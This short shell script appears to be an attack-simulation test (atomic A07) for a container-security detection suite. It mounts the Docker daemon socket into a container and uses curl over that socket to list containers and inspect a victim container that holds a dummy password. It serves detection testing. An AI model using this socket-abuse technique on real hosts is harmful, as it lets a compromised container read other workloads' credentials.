#!/bin/sh
# Uses the daemon's socket from within a container that was given it.
# shellcheck source=atomics/lib.sh
ID=A07
. "$(dirname "$0")/../lib.sh"

check() {
    docker_wanted
    want "the daemon has a socket of this machine" test -S "${DOCKER_HOST#unix://}"
}

attack() {
    image_ready
    socket=${DOCKER_HOST#unix://}
    docker run -d --name "$PREFIX-a07-victim" --label "$PREFIX=$ID" --network none \
        -e DB_PASSWORD=yaral-atomic-not-a-secret "$IMAGE" sleep 300 >/dev/null
    docker run --rm --name "$PREFIX-a07" --label "$PREFIX=$ID" --network none \
        -v "$socket:/var/run/docker.sock" "$IMAGE" sh -c "
            curl -s --unix-socket /var/run/docker.sock http://x/containers/json
            curl -s --unix-socket /var/run/docker.sock http://x/containers/$PREFIX-a07-victim/json" >/dev/null
}

cleanup() { containers_gone; }

main "$@"
